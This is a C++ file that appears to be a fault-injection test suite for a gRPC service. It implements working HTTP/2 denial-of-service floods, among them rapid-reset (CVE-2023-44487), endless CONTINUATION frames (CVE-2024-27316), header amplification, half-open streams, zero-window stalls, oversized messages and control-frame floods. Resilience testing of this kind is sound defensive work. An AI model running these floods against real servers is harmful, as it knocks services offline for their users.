#include "tests/faults/attacks.h"

#include <random>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "assent/v1/assembly_service.pb.h"
#include "assent/v1/entry_service.pb.h"
#include "assent/v1/position_service.pb.h"
#include "tests/faults/raw_http2.h"

namespace assent::faults {
namespace {

using http2::CallBlock;
using http2::Connection;
using http2::Field;
using http2::Frame;
using http2::kContinuation;
using http2::kData;
using http2::kEndHeaders;
using http2::kEndStream;
using http2::kHeaders;
using http2::kMaxFrame;

constexpr char kTakePosition[] = "/assent.v1.PositionService/TakePosition";
constexpr char kListEntries[] = "/assent.v1.EntryService/ListEntries";
constexpr char kWatchAssembly[] = "/assent.v1.AssemblyService/WatchAssembly";
constexpr uint32_t kLastStream = 0x7fffffff;

std::string Watching(const Target& target) {
  v1::WatchAssemblyRequest request;
  request.set_name(target.assembly);
  return http2::Message(request.SerializeAsString());
}

std::string Reading(const Target& target) {
  v1::ListEntriesRequest request;
  request.set_parent(target.assembly);
  request.set_page_size(1000);
  return http2::Message(request.SerializeAsString());
}

// A call with its whole request.
std::string Call(uint32_t stream, const std::string& block, const std::string& message) {
  return absl::StrCat(Frame(kHeaders, kEndHeaders, stream, block),
                      Frame(kData, kEndStream, stream, message));
}

// One connection after the other, on each `piece(stream)` for one stream after the other, so many
// in one go.
template <typename Piece>
void Flood(const Target& target, absl::Time end, int at_once, Piece piece, bool reads = true,
           uint32_t window = 65'535) {
  while (absl::Now() < end) {
    Connection connection(target.address, target.from);
    if (!reads) connection.NeverRead();
    bool taken = connection.Send(http2::Preface(window));
    for (uint32_t stream = 1; taken && absl::Now() < end && stream < kLastStream - 2000;) {
      std::string bytes;
      for (int i = 0; i < at_once; ++i, stream += 2) bytes += piece(stream);
      taken = connection.Send(bytes);
    }
    if (!taken) absl::SleepFor(absl::Milliseconds(1));
  }
}

// --- Resets (CVE-2023-44487)

void ResetCalls(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kTakePosition, target.token);
  Flood(target, end, 64, [&](uint32_t stream) {
    return absl::StrCat(Frame(kHeaders, kEndHeaders, stream, block),
                        Frame(http2::kReset, 0, stream, http2::BigEndian(8)));
  });
}

void ResetWatches(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kWatchAssembly, target.token);
  const std::string request = Watching(target);
  Flood(target, end, 64, [&](uint32_t stream) {
    return absl::StrCat(Call(stream, block, request),
                        Frame(http2::kReset, 0, stream, http2::BigEndian(8)));
  });
}

// --- Header blocks

// One block that never ends (CVE-2024-27316).
void EndlessHeaders(const Target& target, uint32_t, absl::Time end) {
  std::string more;
  while (more.size() < kMaxFrame - 64) absl::StrAppend(&more, Field("x-more", "and more"));
  bool begun = false;
  Flood(target, end, 1, [&](uint32_t stream) {
    begun = stream != 1;
    return begun ? Frame(kContinuation, 0, 1, more)
                 : Frame(kHeaders, 0, 1, CallBlock(kTakePosition, target.token));
  });
}

void EmptyContinuations(const Target& target, uint32_t, absl::Time end) {
  Flood(target, end, 256, [&](uint32_t stream) {
    return stream == 1 ? Frame(kHeaders, 0, 1, CallBlock(kTakePosition, target.token))
                       : Frame(kContinuation, 0, 1);
  });
}

// One field of a megabyte, and a block of ten thousand fields.
std::string InFrames(uint32_t stream, absl::string_view block) {
  std::string frames;
  for (size_t at = 0; at < block.size(); at += kMaxFrame) {
    const bool last = at + kMaxFrame >= block.size();
    absl::StrAppend(&frames, Frame(at == 0 ? kHeaders : kContinuation, last ? kEndHeaders : 0,
                                   stream, block.substr(at, kMaxFrame)));
  }
  return frames;
}

void HugeMetadata(const Target& target, uint32_t, absl::Time end) {
  const std::string block =
      CallBlock(kTakePosition, target.token, {{"x-huge", std::string(1 << 20, 'a')}});
  Flood(target, end, 1, [&](uint32_t stream) { return InFrames(stream, block); });
}

void ManyMetadata(const Target& target, uint32_t, absl::Time end) {
  http2::Fields fields;
  for (int i = 0; i < 10'000; ++i) fields.emplace_back(absl::StrCat("x-", i), "");
  const std::string block = CallBlock(kTakePosition, target.token, fields);
  Flood(target, end, 1, [&](uint32_t stream) { return InFrames(stream, block); });
}

// A field of 4,000 bytes that is remembered, and named again by one byte each.
void HeadersOfOneByte(const Target& target, uint32_t, absl::Time end) {
  const std::string first =
      CallBlock(kTakePosition, target.token) + Field("x-big", std::string(4000, 'a'), true);
  const std::string block = first + std::string(16'000 - first.size(), '\xbe');  // index 62
  Flood(target, end, 4,
        [&](uint32_t stream) { return Frame(kHeaders, kEndHeaders, stream, block); });
}

// --- Whoever begins and does not end

// Calls with 7 KB of metadata whose request never comes.
void HalfOpenCalls(const Target& target, uint32_t, absl::Time end) {
  const std::string block =
      CallBlock(kTakePosition, target.token, {{"x-large", std::string(7000, 'a')}});
  Flood(target, end, 16,
        [&](uint32_t stream) { return Frame(kHeaders, kEndHeaders, stream, block); });
}

// Requests of which all but the last byte comes.
void HalfOpenMessages(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kTakePosition, target.token);
  const std::string message = http2::MessageHead(16'001) + std::string(16'000, 'a');
  Flood(target, end, 4, [&](uint32_t stream) {
    return absl::StrCat(Frame(kHeaders, kEndHeaders, stream, block),
                        Frame(kData, 0, stream, message));
  });
}

// Hundreds of connections that say nothing, half of the preface, or only that.
void HalfOpenConnections(const Target& target, uint32_t seed, absl::Time end) {
  const std::string preface = http2::Preface();
  const std::string beginnings[] = {"", preface.substr(0, 10), preface};
  std::vector<Connection> all;
  while (absl::Now() < end) {
    if (all.size() < 200) {
      all.emplace_back(target.address, target.from);
      all.back().Send(beginnings[seed++ % 3]);
      continue;
    }
    absl::SleepFor(absl::Milliseconds(20));
    std::erase_if(all, [](Connection& each) { return !each.Swallow(); });
  }
}

// --- Whoever does not read

void WatchesWithoutWindow(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kWatchAssembly, target.token);
  const std::string request = Watching(target);
  Flood(
      target, end, 16, [&](uint32_t stream) { return Call(stream, block, request); }, false, 0);
}

void ReadsWithoutWindow(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kListEntries, target.token);
  const std::string request = Reading(target);
  Flood(
      target, end, 16, [&](uint32_t stream) { return Call(stream, block, request); }, true, 0);
}

void ReadsThatAreNotRead(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kListEntries, target.token);
  const std::string request = Reading(target);
  Flood(
      target, end, 16, [&](uint32_t stream) { return Call(stream, block, request); }, false,
      kLastStream);
}

// --- Messages that are too large

void OversizedMessages(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kTakePosition, target.token);
  const std::string some(kMaxFrame - 5, 'a');
  Flood(target, end, 2, [&](uint32_t stream) {
    return absl::StrCat(Frame(kHeaders, kEndHeaders, stream, block),
                        Frame(kData, 0, stream, http2::MessageHead(0xffffffff) + some));
  });
}

// Whole messages of a megabyte and a half, more than a request may have.
void LargeMessages(const Target& target, uint32_t, absl::Time end) {
  const std::string block = CallBlock(kTakePosition, target.token);
  const std::string some(kMaxFrame, 'a');
  Flood(target, end, 1, [&](uint32_t stream) {
    std::string all = Frame(kHeaders, kEndHeaders, stream, block);
    absl::StrAppend(&all, Frame(kData, 0, stream, http2::MessageHead(96 * kMaxFrame)));
    for (int i = 0; i < 96; ++i) {
      absl::StrAppend(&all, Frame(kData, i == 95 ? kEndStream : 0, stream, some));
    }
    return all;
  });
}

// --- Frames that are answered, and nonsense

void SettingsFlood(const Target& target, uint32_t, absl::Time end) {
  const std::string frame = Frame(http2::kSettings, 0, 0);
  Flood(
      target, end, 512, [&](uint32_t) { return frame; }, false);
}

void PingFlood(const Target& target, uint32_t, absl::Time end) {
  const std::string frame = Frame(http2::kPing, 0, 0, "12345678");
  Flood(
      target, end, 512, [&](uint32_t) { return frame; }, false);
}

void PriorityFlood(const Target& target, uint32_t, absl::Time end) {
  Flood(target, end, 512, [&](uint32_t stream) {
    return absl::StrCat(Frame(http2::kPriority, 0, stream, std::string(5, '\1')),
                        Frame(http2::kWindowUpdate, 0, 0, http2::BigEndian(1)));
  });
}

void GarbagePreface(const Target& target, uint32_t seed, absl::Time end) {
  std::mt19937 random(seed);
  while (absl::Now() < end) {
    Connection connection(target.address, target.from);
    std::string bytes = random() % 2 == 0 ? "GET / HTTP/1.1\r\n\r\n" : "";
    while (bytes.size() < 4096) bytes.push_back(static_cast<char>(random()));
    connection.Send(bytes);
    connection.Swallow();
  }
}

// After a right preface, frames of any type, length and stream.
void GarbageFrames(const Target& target, uint32_t seed, absl::Time end) {
  std::mt19937 random(seed);
  Flood(target, end, 1, [&](uint32_t stream) {
    std::string payload;
    for (size_t length = random() % 300; payload.size() < length;) {
      payload.push_back(static_cast<char>(random()));
    }
    return Frame(static_cast<uint8_t>(random() % 12), static_cast<uint8_t>(random()),
                 random() % 4 == 0 ? random() % 32 : stream, payload);
  });
}

}  // namespace

std::vector<http2::Connection> ConnectionsThatTakeNothing(const Target& target) {
  std::vector<Connection> all;
  const std::string watch = CallBlock(kWatchAssembly, target.token);
  const std::string read = CallBlock(kListEntries, target.token);
  for (int i = 0; i < 4; ++i) {
    std::string bytes = http2::Preface(0);
    for (uint32_t stream = 1; stream < 100; stream += 4) {
      absl::StrAppend(&bytes, Call(stream, watch, Watching(target)),
                      Call(stream + 2, read, Reading(target)));
    }
    all.emplace_back(target.address);
    all.back().Send(bytes);
  }
  absl::SleepFor(absl::Milliseconds(300));
  return all;
}

const std::vector<Attack>& AllAttacks() {
  static const std::vector<Attack> all = {
      {"ResetCalls", &ResetCalls, false},
      {"ResetWatches", &ResetWatches, false},
      {"EndlessHeaders", &EndlessHeaders, false},
      {"EmptyContinuations", &EmptyContinuations, true},
      {"HugeMetadata", &HugeMetadata, false},
      {"ManyMetadata", &ManyMetadata, false},
      {"HeadersOfOneByte", &HeadersOfOneByte, true},
      {"HalfOpenCalls", &HalfOpenCalls, false},
      {"HalfOpenMessages", &HalfOpenMessages, false},
      {"HalfOpenConnections", &HalfOpenConnections, true},
      {"WatchesWithoutWindow", &WatchesWithoutWindow, false},
      {"ReadsWithoutWindow", &ReadsWithoutWindow, false},
      {"ReadsThatAreNotRead", &ReadsThatAreNotRead, false},
      {"OversizedMessages", &OversizedMessages, false},
      {"LargeMessages", &LargeMessages, false},
      {"SettingsFlood", &SettingsFlood, true},
      {"PingFlood", &PingFlood, false},
      {"PriorityFlood", &PriorityFlood, true},
      {"GarbagePreface", &GarbagePreface, false},
      {"GarbageFrames", &GarbageFrames, true},
  };
  return all;
}

}  // namespace assent::faults
